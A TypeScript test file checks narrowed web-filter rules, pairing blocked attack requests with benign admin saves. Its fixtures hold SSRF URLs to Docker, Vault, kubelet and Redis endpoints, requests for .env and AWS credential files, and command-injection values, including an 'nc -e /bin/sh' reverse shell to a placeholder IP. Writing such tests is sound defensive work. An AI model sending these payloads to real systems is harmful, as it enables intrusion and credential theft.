/**
 * Bundled drop rules narrowed in session 27 (rev 2026-12-10p, 10q; issue 14, "legitimate traffic is never broken") for
 * the admin saves of datasets/families' `cluster-paths` and `security-rules`: each still blocks the attack it was
 * written for, sent in the same field, and stays quiet on the admin save that tripped it. A service registration's
 * health check on localhost (Consul's `Check.HTTP`) polls a liveness path, which no SSRF into those services wants.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, JSON_HEADERS, form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const consul = (url: string): RequestSpec => ({
  method: 'PUT',
  url: '/v1/agent/service/register',
  headers: [['Host', '127.0.0.1:8500'], ['User-Agent', 'Go-http-client/1.1'], ['Content-Type', 'application/json']],
  body: JSON.stringify({ ID: 'vault-1', Name: 'vault', Port: 8200, Check: { HTTP: url, Interval: '10s', Timeout: '2s' } }),
});

const wazuh = (pattern: string, element = 'url'): RequestSpec => ({
  method: 'PUT',
  url: '/rules/files/local_rules.xml?overwrite=true',
  headers: [['Host', '10.0.4.12:55000'], ['User-Agent', 'python-requests/2.32.3'], ['Content-Type', 'application/octet-stream']],
  body: `<group name="local,attack,">\n  <rule id="100253" level="10">\n    <if_sid>31108</if_sid>\n    <${element}>${pattern}</${element.split(' ')[0]}>\n    <description>Command injection attempt: $(url)</description>\n  </rule>\n</group>\n`,
});
const fail2ban = (alternatives: string): RequestSpec => ({
  method: 'POST',
  url: '/filesystem/write?path=%2Fetc%2Ffail2ban%2Ffilter.d%2Fweb-scan.conf',
  headers: [['Host', 'panel.example.com'], ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'], ['Content-Type', 'text/plain;charset=UTF-8']],
  body: `[Definition]\nfailregex = ^<HOST> -.*"(GET|POST|HEAD) [^"]*(?:${alternatives})[^"]*" (?:404|403|400)\nignoreregex =\n`,
});
const soap = (value: string): RequestSpec => ({
  method: 'POST',
  url: '/HNAP1/',
  headers: [['Host', '192.168.0.1'], ['User-Agent', 'Mozilla/5.0'], ['Content-Type', 'text/xml'], ['SOAPAction', '"http://purenetworks.com/HNAP1/SetNetworkSettings"']],
  body: `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><SetNetworkSettings><IPAddress>${value}</IPAddress></SetNetworkSettings></soap:Body></soap:Envelope>`,
});

const fromPanel = (referer: string): RequestSpec => ({
  method: 'POST',
  url: '/CMD_FILE_MANAGER',
  headers: [...BROWSER, ['Referer', referer], ['Content-Type', 'application/x-www-form-urlencoded']],
  body: 'action=edit&path=%2Fopt%2Fapi&filename=.env&text=NODE_ENV%3Dproduction%0APORT%3D8080&json=yes',
});

const CASES: RuleCase[] = [
  // 9000506 rev 2: a liveness or readiness path alone is what a registration's check polls; any other path, none, or a
  // health path with more after it (a query, a second segment, a climb back out) is still the SSRF.
  [9000506, 'block', 'the Docker API on localhost in a registration check', consul('http://localhost:2375/containers/json'), consul('http://localhost:8200/health')],
  [9000506, 'block', 'Vault secrets behind a health-looking prefix', consul('http://localhost:8200/health/../v1/secret/data/db'), consul('http://localhost:8200/-/ready')],
  [9000506, 'block', 'a health path with a query', consul('http://localhost:9200/healthz?x=1'), consul('http://localhost:9200/healthz')],
  [9000506, 'block', 'Elasticsearch on localhost with no path', json('{"url":"http://localhost:9200"}'), json('{"url":"http://localhost:9200/readyz"}')],
  [9000506, 'block', 'a cluster service\'s data path in a pod command', json('{"command":["sh","-c","wget -qO- http://api.web.svc.cluster.local:8080/internal/users"]}'), json('{"command":["sh","-c","wget -qO- http://api.web.svc.cluster.local:8080/healthz"]}')],
  [9000506, 'block', 'the kubelet with a JSON-escaped slash after a health path', { method: 'POST', url: '/api/items', headers: JSON_HEADERS, body: '{"u":"http:\\/\\/127.0.0.1:10250\\/healthz\\/..\\/pods"}' }, { method: 'POST', url: '/api/items', headers: JSON_HEADERS, body: '{"u":"http:\\/\\/127.0.0.1:10250\\/healthz"}' }],
  [9000506, 'block', 'a percent-encoded Docker URL in a form', form('target=http%3A%2F%2Flocalhost%3A2375%2Fcontainers%2Fjson'), form('target=http%3A%2F%2Flocalhost%3A2375%2Fhealth&interval=10s')],
  [9000506, 'block', 'a gopher URL to Redis', form('url=gopher://127.0.0.1:6379/_INFO'), form('url=http://127.0.0.1:6379/livez')],
  // 9000521 rev 2: the same carve-out for a service name on an infrastructure port.
  [9000521, 'block', 'Vault\'s secrets on localhost by port', consul('http://localhost:8200/v1/secret/data/db'), consul('http://localhost:8200/healthz')],
  [9000521, 'block', 'a Compose service\'s Docker port with no path', json('{"webhook":"http://docker:2375"}'), json('{"check":{"http":"http://vault:8200/-/healthy"}}')],
  // 9000520 rev 2 (fp28, session 28): the same carve-out in the URI (a status page polled through a proxy or a dashboard link).
  [9000520, 'block', 'Vault\'s secrets by service name in a query', q('url=http://vault:8200/v1/secret/data/db'), q('url=http://vault:8200/health')],
  [9000520, 'block', 'a health path with a query after it', q('check=http://docker:2375/healthz?all=1'), q('check=http://docker:2375/healthz&interval=10s')],
  [9000520, 'block', 'a Compose service\'s Docker port with no path', q('target=http://docker:2375'), q('target=http://vault:8200/-/healthy')],
  // 9000414 rev 2: the Referer is the page the operator came from (DirectAdmin's editor for /opt/api/.env), not an input
  // of this request; the same path as this request's parameter, JSON value or cookie still blocks.
  [9000414, 'block', 'an app\'s .env as a query parameter', { url: '/files/get?filename=/opt/api/.env', headers: BROWSER }, fromPanel('https://10.0.0.5:2222/CMD_FILE_MANAGER?action=edit&path=%2Fopt%2Fapi%2F.env')],
  [9000414, 'block', 'settings.py as a JSON value', json('{"file":"/srv/app/settings.py"}'), { url: '/', headers: [...BROWSER, ['referer', 'http://127.0.0.1:10000/nginx/edit_manual.cgi?file=/srv/app/settings.py&xnavigation=1']] }],
  [9000414, 'block', 'AWS credentials in a cookie', { url: '/', headers: [...BROWSER, ['Cookie', 'theme=dark; tpl=/root/.aws/credentials']] }, { url: '/', headers: [...BROWSER, ['Referer', 'https://panel.example.com/edit?file=/root/.aws/credentials']] }],
  // 9000314 rev 6, 9000329 rev 2: the same separator and command in an XML value a router pastes into a shell still block;
  // in a detection rule's text they alert (9000363, 9000364) and the model decides.
  [9000314, 'block', 'a pipe to uname -a in a SOAP value', soap('192.168.0.10|uname -a'), wazuh('gobuster|uname -a')],
  [9000384, 'block', 'a pipe to /bin/sh in a SOAP value', soap('x|/bin/sh -c id'), wazuh('xp_cmdshell|/bin/bash', 'field name="data.http.user_agent"')],
  [9000385, 'block', 'nc -e after a pipe in a form value', form('host=10.0.0.1|nc -e /bin/sh 203.0.113.7 4444'), fail2ban('win\\.ini|nc -e|%2e%2e%2f')],
  [9000329, 'block', 'a bare whoami between pipes in a SOAP value', soap('a|whoami|'), wazuh('/wp-login.php|/actuator/|whoami|..\\', 'field name="url"')],
  [9000329, 'block', 'uname -a between pipes in a form value', form('name=x.pptx|uname -a|&go=1'), fail2ban('union select|whoami|dirbuster')],
  // 9000323 rev 3: a Windows command after a separator, as a host field handed to cmd.exe, still blocks.
  [9000323, 'block', 'whoami after a pipe in a SOAP value', soap('127.0.0.1|whoami'), wazuh('gobuster|whoami')],
  [9000323, 'block', 'net user after && in a form value', form('host=10.0.0.1%26%26net+user'), wazuh('onload=|whoami|&lt;script|document.cookie', 'field name="data.http.user_agent"')],
  [9000364, 'suspicious', 'a Windows command quoted in a Wazuh rule', wazuh('information_schema|whoami'), wazuh('information_schema|nikto')],
  [9000363, 'suspicious', 'a command quoted in a Wazuh rule', wazuh('information_schema|whoami|nc -e'), soap('192.168.0.10')],
  [9000364, 'suspicious', 'a probe quoted between alternatives of a Wazuh rule', wazuh('..%2f|nikto|uname -a|cmd.exe'), wazuh('..%2f|nikto|cmd.exe')],
];

describe('bundled drop rules narrowed for admin saves (rev 2026-12-10p, 10q)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
